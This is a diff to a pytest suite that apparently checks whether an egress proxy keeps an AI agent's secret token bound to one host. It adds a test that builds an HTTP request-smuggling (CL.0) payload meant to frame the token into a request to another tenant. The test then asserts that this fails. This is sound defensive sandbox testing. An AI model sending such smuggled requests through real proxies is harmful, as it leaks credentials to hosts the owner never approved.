@@ -35,6 +35,7 @@ from tests.bottle_fixtures import (
     world_for,
 )
 from tests.bundle_helpers import echo_upstream
+from tests.polling import wait_for
 
 pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.escape]
 
@@ -312,6 +313,39 @@ def _s_client(servername: str, request: str) -> str:
         f"printf '{request}' \"$API_TOKEN\" | timeout 30 openssl s_client -quiet "
         f"-proxy $P -connect secret.test:443 -servername {servername} 2>&1"
     )
+
+
+# In one write inside the tunnel: a request whose body the bound host leaves unread (a head
+# for the other tenant, whose Content-Length takes in what follows), then one with the value.
+_SMUGGLED = "POST /log/unread HTTP/1.1\r\nHost: other.test\r\nContent-Length: 200\r\n\r\n"
+_UNREAD_BODY_THEN_VALUE = (
+    "GET /ignores-body/bottle HTTP/1.1\r\nHost: secret.test\r\n"
+    f"Content-Length: {len(_SMUGGLED)}\r\n\r\n{_SMUGGLED}"
+    "GET /after-unread-body HTTP/1.1\r\nHost: secret.test\r\nAuthorization: Bearer %s\r\n"
+    f"X-Pad: {'p' * 300}\r\nConnection: close\r\n\r\n"
+)
+
+
+def test_a_body_the_bound_host_leaves_unread_never_frames_the_real_value(arena: Arena) -> None:
+    """The host reads a body it leaves unread as the next request on its connection ("CL.0");
+    the proxy sent the request with the value on that connection next, and the host read it
+    as the body of the agent's request to the other tenant (test_egress_proxy_live.py)."""
+    _, output = arena.agent(_s_client("secret.test", _shell_escaped(_UNREAD_BODY_THEN_VALUE)))
+    assert arena.secret not in output
+    # The host reads the smuggled head once the proxy has closed the connection it came on.
+    smuggled = wait_for(
+        lambda: [r for r in arena.received() if r["path"] == "/log/unread"] or None,
+        "the smuggled head",
+    )
+    assert not any(arena.secret in json.dumps(r) for r in smuggled), smuggled
+    (after,) = [r for r in arena.received() if r["path"] == "/after-unread-body"]
+    assert after["headers"]["Authorization"] == f"Bearer {arena.secret}", after
+    assert after["tenant"] == "secret.test", after
+
+
+def _shell_escaped(request: str) -> str:
+    """`request` as a printf format inside single quotes: CR LF written as escapes."""
+    return request.replace("\r\n", "\\r\\n")
 
 
 # Inside the tunnel to secret.test, a request whose other names (SNI, Host, an absolute URL)
@@ -698,3 +732,5 @@ def test_zz_the_real_value_reached_the_bound_host_only(arena: Arena) -> None:
     for request in carrying:
         assert (request["sni"], request["port"]) == ("secret.test", 443), request
         assert request["headers"]["Host"].split(":")[0] == "secret.test", request
+        # The host a front routes it by (its first Host field), where a later one may differ.
+        assert request["tenant"] == "secret.test", request
